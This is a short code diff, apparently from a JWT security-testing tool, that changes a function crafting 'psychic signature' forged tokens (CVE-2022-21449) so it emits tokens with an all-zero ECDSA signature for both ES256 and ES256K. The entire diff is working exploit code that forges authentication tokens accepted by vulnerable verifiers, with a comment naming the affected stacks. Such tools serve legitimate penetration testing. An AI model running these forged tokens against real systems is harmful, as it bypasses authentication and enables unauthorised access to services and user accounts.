@@ -276,10 +276,16 @@ async function craftKid(input: AttackInput, id: AttackId, kid: string, secret: s
 }
 
 async function craftPsychic(input: AttackInput): Promise<CraftResult> {
-  const parts = prepare(input, { set: [['alg', '"ES256"']], remove: KEY_POINTERS })
-  if (!parts.ok) return parts
-  const token = `${base64urlEncode(parts.value.header)}.${base64urlEncode(parts.value.payload)}.${base64urlEncode(new Uint8Array(64))}`
-  return ok([crafted('psychic-signature', token, 'ES256 with r = 0 and s = 0', 'The signature is 64 zero bytes: r = 0 and s = 0.')])
+  // Every ECDSA verifier that skips the r, s ∈ [1, n−1] check accepts r = s = 0 (CVE-2022-21449 in
+  // Java): ES256 is the common case, ES256K (secp256k1, RFC 8812) the one of atproto and DID stacks.
+  const tokens: CraftedToken[] = []
+  for (const alg of ['ES256', 'ES256K'] as const) {
+    const parts = prepare(input, { set: [['alg', JSON.stringify(alg)]], remove: KEY_POINTERS })
+    if (!parts.ok) return parts
+    const token = `${base64urlEncode(parts.value.header)}.${base64urlEncode(parts.value.payload)}.${base64urlEncode(new Uint8Array(64))}`
+    tokens.push(crafted('psychic-signature', token, `${alg} with r = 0 and s = 0`, 'The signature is 64 zero bytes: r = 0 and s = 0.'))
+  }
+  return ok(tokens)
 }
 
 async function craftTampering(input: AttackInput): Promise<CraftResult> {
